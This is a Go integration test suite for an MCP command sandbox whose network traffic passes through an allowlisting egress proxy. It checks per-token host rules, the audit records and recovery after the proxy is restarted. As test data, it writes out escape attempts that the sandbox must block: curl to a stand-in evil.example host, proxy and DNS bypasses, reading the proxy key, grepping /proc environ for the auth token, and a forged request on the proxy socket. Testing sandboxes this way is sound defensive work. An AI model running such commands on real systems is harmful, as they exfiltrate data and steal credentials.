package main_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

const token = "sandbox-token-0123456789-0123456789-0123456789"

// accounts are those that sandboxd is started as.
var accounts = map[string]int{"root": 0, "ordinary": 54321}

// rootHere says whether the sandbox can be tried. It needs an owner for the
// workspace that is not root, and only root can give it one.
func rootHere(t *testing.T) bool {
	t.Helper()
	if os.Geteuid() != 0 || !allIDs() {
		missing(t, "root (the sandbox is started as root and as another uid)")
		return false
	}
	return true
}

// missing says that something cannot be tried here. Where CI=true it fails: there
// .ci/run has installed all that is needed.
func missing(t *testing.T, what string) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Fatal("missing: ", what)
	}
	t.Log("not tried, missing: ", what)
}

// allIDs says whether this process may become any uid.
func allIDs() bool {
	raw, err := os.ReadFile("/proc/self/uid_map")
	return err == nil && strings.Fields(string(raw))[2] != "1"
}

// A sandbox is a running sandboxd whose commands reach egress.
type sandbox struct {
	t              *testing.T
	url, workspace string
	egress         *egress
}

// startSandbox starts one as uid; env comes on top.
func startSandbox(t *testing.T, uid int, allow string, env ...string) *sandbox {
	t.Helper()
	dir, err := os.MkdirTemp("/var", "egress-sandbox")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	s := &sandbox{t: t, workspace: filepath.Join(dir, "workspace")}
	private := filepath.Join(dir, "private")
	for _, d := range []string{s.workspace, private} {
		os.Mkdir(d, 0o700)
		os.Chown(d, 54321, 54321)
	}
	os.Chmod(dir, 0o755)
	if err := world.ca.WritePEM(filepath.Join(s.workspace, "ca.pem")); err != nil {
		t.Fatal(err)
	}
	s.egress = startIn(t, private, allow, 54321)
	cmd := exec.Command(filepath.Join(filepath.Dir(binary), "sandboxd"))
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "MCP_ADDR=127.0.0.1:0", "MCP_WORKSPACE=" + s.workspace, "MCP_AUTH_TOKEN=" + token, "MCP_COMMAND_NETWORK=allowlist",
		"MCP_EGRESS_SOCKET=" + s.egress.client.Socket, "MCP_EGRESS_KEY_FILE=" + filepath.Join(private, "key")}, env...)
	if uid != 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
	}
	cmd.Dir = "/"
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Signal(syscall.SIGTERM); cmd.Wait() })
	lines := bufio.NewScanner(stderr)
	var said []string
	for s.url == "" && lines.Scan() {
		var line struct{ Msg, Address string }
		if json.Unmarshal(lines.Bytes(), &line) == nil && line.Msg == "serving" {
			s.url = "http://" + line.Address + "/mcp-sandbox/mcp"
		}
		said = append(said, lines.Text())
	}
	if s.url == "" {
		t.Fatalf("sandboxd does not serve:\n%s", strings.Join(said, "\n"))
	}
	go io.Copy(io.Discard, stderr)
	return s
}

// connect is a client with these headers of an edge, if any.
func (s *sandbox) connect(headers http.Header) *mcp.ClientSession {
	s.t.Helper()
	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil)
	transport := &mcp.StreamableClientTransport{Endpoint: s.url, HTTPClient: &http.Client{Transport: withHeaders(headers)}}
	c, err := client.Connect(s.t.Context(), transport, nil)
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { c.Close() })
	return c
}

type withHeaders http.Header

func (h withHeaders) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+token)
	for name, values := range h {
		r.Header[name] = values
	}
	return http.DefaultTransport.RoundTrip(r)
}

// as are the headers of an edge for a token with these egress rules.
func as(name string, rules ...string) http.Header {
	h := http.Header{"X-Sallyport-Principal": {"token:" + name}, "X-Sallyport-Tools": {"*"}}
	if len(rules) > 0 {
		h["X-Sallyport-Egress"] = []string{strings.Join(rules, ",")}
	}
	return h
}

// A result is run_command's.
type result struct {
	ExitCode       int `json:"exit_code"`
	Stdout, Stderr string
	Notices        []string
}

func (s *sandbox) run(c *mcp.ClientSession, line string) (r result) {
	s.t.Helper()
	res, err := c.CallTool(s.t.Context(), &mcp.CallToolParams{Name: "run_command", Arguments: map[string]any{"command": line, "timeout_seconds": 100}})
	if err != nil {
		s.t.Fatal(err)
	}
	raw, _ := json.Marshal(res.StructuredContent)
	if err := json.Unmarshal(raw, &r); err != nil || res.StructuredContent == nil {
		s.t.Fatalf("%v: %+v", err, res.Content)
	}
	return r
}

// trust makes tools trust the test's CA.
const trust = `export CURL_CA_BUNDLE=$PWD/ca.pem SSL_CERT_FILE=$PWD/ca.pem NODE_EXTRA_CA_CERTS=$PWD/ca.pem GIT_SSL_CAINFO=$PWD/ca.pem PIP_CERT=$PWD/ca.pem CARGO_HTTP_CAINFO=$PWD/ca.pem npm_config_cafile=$PWD/ca.pem; `

// A command reaches the hosts of its token and of the ceiling and no other, and
// its caller reads which rule is missing. Each token has its own list.
func TestTokensLists(t *testing.T) {
	world.dns.Set("a.example", "93.184.215.10")
	world.dns.Set("b.example", "93.184.215.11")
	if !rootHere(t) {
		return
	}
	for name, uid := range accounts {
		t.Run(name, func(t *testing.T) {
			s := startSandbox(t, uid, "a.example,b.example,http://a.example")
			for _, c := range []struct {
				who                           http.Header
				a, b                          bool
				describes, notice, notRefused string
			}{
				{as("one", "a.example"), true, false, "commands reach a.example by", `"b.example" to egress: of the token one`, ""},
				{as("two", "*"), true, true, "the hosts of the owner's list", "", "a.example"},
				{as("none"), false, false, "no host is on yours", `"a.example" to egress: of the token none`, ""},
			} {
				client := s.connect(c.who)
				list, err := client.ListTools(t.Context(), nil)
				if err != nil {
					t.Fatal(err)
				}
				for _, tool := range list.Tools {
					if tool.Name == "run_command" && !strings.Contains(tool.Description, c.describes) {
						t.Errorf("%v: described as %q", c.who, tool.Description)
					}
				}
				var notices []string
				for host, want := range map[string]bool{"a.example": c.a, "b.example": c.b} {
					r := s.run(client, trust+"curl -sS https://"+host+"/x")
					notices = append(notices, r.Notices...)
					if got := r.ExitCode == 0 && strings.Contains(r.Stdout, "GET "+host+" /x"); got != want {
						t.Errorf("%v: %s: %+v", c.who, host, r)
					}
				}
				if all := strings.Join(notices, "\n"); !strings.Contains(all, c.notice) {
					t.Errorf("%v: notices %q", c.who, all)
				}
			}
			if r := s.run(s.connect(as("one", "a.example", "c.example")), trust+"curl -sS https://c.example/"); r.ExitCode == 0 || !strings.Contains(strings.Join(r.Notices, ""), `"c.example" to EGRESS_ALLOW`) {
				t.Errorf("above the ceiling: %+v", r)
			}
		})
	}
}

// Nothing of a command gets out but through egress: no DNS query, no
// connection to an address, no socket without its key, no other command's
// proxy. The twins are the same attempts made outside of the jail.
func TestNoOtherWayOut(t *testing.T) {
	world.dns.Set("a.example", "93.184.215.10")
	world.dns.Set("secret.evil.example", "93.184.215.11")
	lookup := `python3 -c 'import socket; print(socket.getaddrinfo("secret.evil.example", 443))'`
	direct := `python3 -c 'import socket; socket.create_connection(("93.184.215.10", 443), 3)'`
	for _, twin := range []string{lookup, direct} {
		if out, err := exec.Command("sh", "-c", twin).CombinedOutput(); err != nil {
			t.Fatalf("the twin of %s: %v %s", twin, err, out)
		}
	}
	if !rootHere(t) {
		return
	}
	for name, uid := range accounts {
		t.Run(name, func(t *testing.T) {
			s := startSandbox(t, uid, "a.example")
			c := s.connect(as("one", "a.example"))
			world.dns.Queries()
			forget()
			for _, attempt := range []string{lookup, direct, "getent hosts secret.evil.example", "curl -sS --noproxy '*' -k https://93.184.215.10/",
				"curl -sS -k --resolve a.example:443:93.184.215.11 --noproxy '*' https://a.example/", "curl -sS -k --connect-to a.example:443:93.184.215.11:443 https://a.example/",
				"curl -sS -k https://secret-data.evil.example/", "curl -m 2 -sS -k --socks5-hostname 127.0.0.1:3128 https://a.example/", "curl -fsS http://a.example/", "curl -sS http://127.0.0.1:53/",
				fmt.Sprintf("python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(%q)'", s.egress.client.Socket),
				"cat " + filepath.Join(filepath.Dir(filepath.Dir(s.egress.client.Socket)), "key"), "cat /proc/1/environ /proc/*/environ | tr '\\0' '\\n' | grep MCP_AUTH_TOKEN"} {
				if r := s.run(c, attempt); r.ExitCode == 0 || strings.Contains(r.Stdout, "GET ") || strings.Contains(r.Stdout, key) {
					t.Errorf("%s: %+v", attempt, r)
				}
			}
			if q := world.dns.Queries(); len(q) != 0 {
				t.Errorf("DNS queries: %q", q)
			}
			for address, l := range world.hosts {
				if got := l.Received(true); len(got) != 0 {
					t.Errorf("%s received %q", address, got)
				}
			}
		})
	}
}

// inContainer is a directory for the private directories of commands.
func inContainer(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("/var", "egress-private")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o777)
	return dir
}

// In a container commands may open unix sockets, so the key is what holds.
func TestKeyHoldsWhereSocketsAreOpen(t *testing.T) {
	world.dns.Set("a.example", "93.184.215.10")
	if !rootHere(t) {
		return
	}
	for name, uid := range accounts {
		t.Run(name, func(t *testing.T) {
			s := startSandbox(t, uid, "a.example", "MCP_IN_CONTAINER=true", "MCP_PRIVATE_DIR="+inContainer(t))
			c := s.connect(as("one", "a.example"))
			r := s.run(c, fmt.Sprintf(`python3 -c '
import socket
s = socket.socket(socket.AF_UNIX); s.connect(%q)
s.sendall(b"0" * 64 + b"\n" + b"{\"command\":{\"principal\":\"x\",\"id\":\"y\",\"rules\":[\"*\"]}}\n")
print(s.recv(100))'`, s.egress.client.Socket))
			if !strings.Contains(r.Stdout, "refused") && !strings.Contains(r.Stderr, "ermission denied") {
				t.Errorf("%+v", r)
			}
			if r := s.run(c, trust+"curl -sS https://a.example/"); r.ExitCode != 0 {
				t.Errorf("the twin, with the key that sandboxd has: %+v", r)
			}
		})
	}
}

// When egress dies, commands are told so, and work again after a restart.
func TestEgressDies(t *testing.T) {
	world.dns.Set("a.example", "93.184.215.10")
	if !rootHere(t) {
		return
	}
	s := startSandbox(t, accounts["ordinary"], "a.example")
	c := s.connect(as("one", "*"))
	s.egress.cmd.Process.Kill()
	s.egress.cmd.Wait()
	if r := s.run(c, trust+"curl -sS https://a.example/"); r.ExitCode == 0 || !strings.Contains(strings.Join(r.Notices, ""), "cannot be reached") {
		t.Errorf("%+v", r)
	}
	s.egress.run()
	if r := s.run(c, trust+"curl -sS https://a.example/"); r.ExitCode != 0 {
		t.Errorf("after the restart: %+v", r)
	}
}

// What a command did is in egress's audit under its principal, session and id.
func TestCommandsAreRecorded(t *testing.T) {
	world.dns.Set("a.example", "93.184.215.10")
	if !rootHere(t) {
		return
	}
	s := startSandbox(t, accounts["ordinary"], "a.example")
	s.run(s.connect(as("one", "*")), trust+"curl -sS https://a.example/; curl -sS https://b.example/")
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		var got []string
		for _, r := range s.egress.records() {
			id, _ := detail(r, "command")
			target, _ := detail(r, "target")
			if r["kind"] != "begin" && id != "" && id != "unknown" {
				got = append(got, fmt.Sprint(r["principal"], " ", target, " ", r["verdict"]))
			}
		}
		if len(got) == 2 {
			if got[0] != "token:one a.example:443 ok" || got[1] != "token:one b.example:443 above_ceiling" {
				t.Errorf("records %q", got)
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("records %q of %v", got, s.egress.records())
		}
	}
}
